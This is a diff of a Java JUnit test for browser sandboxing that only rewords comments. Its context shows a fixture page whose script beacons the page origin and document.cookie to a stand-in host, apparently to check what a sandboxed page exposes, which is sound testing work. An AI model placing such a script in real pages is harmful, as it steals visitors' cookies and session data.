@@ -20,11 +20,14 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.api.io.TempDir;
 
-/** What visitors keep although the page of pixels is in a sandbox, in a real browser: wherever a link leads, they get there. */
+/**
+ * What still works for visitors although the page of pixels is in a sandbox, in a real browser: wherever a link leads,
+ * they get there.
+ */
 @ExtendWith(Browsing.class)
 class SandboxInBrowserTest {
 
-    /** Says which origin it has. */
+    /** A page that shows its origin. */
     private static final String SAYS_ITS_ORIGIN = "<!doctype html><title>Shop</title><link rel=icon href=data:,>"
             + "<script>navigator.sendBeacon('https://origin.example/?' + self.origin + '&' + document.cookie)</script>";
 
@@ -92,7 +95,7 @@ class SandboxInBrowserTest {
         assertThat(tab.complaints()).isEmpty();
     }
 
-    /** What the browser then does is the affair of its system; a sandbox that forbids it is a complaint. */
+    /** What the browser then does depends on its system; a sandbox that forbade it would cause a complaint. */
     @Test
     void a_destination_of_an_app_is_not_held_back() {
         server = TestServer.with(builder -> builder.rules(
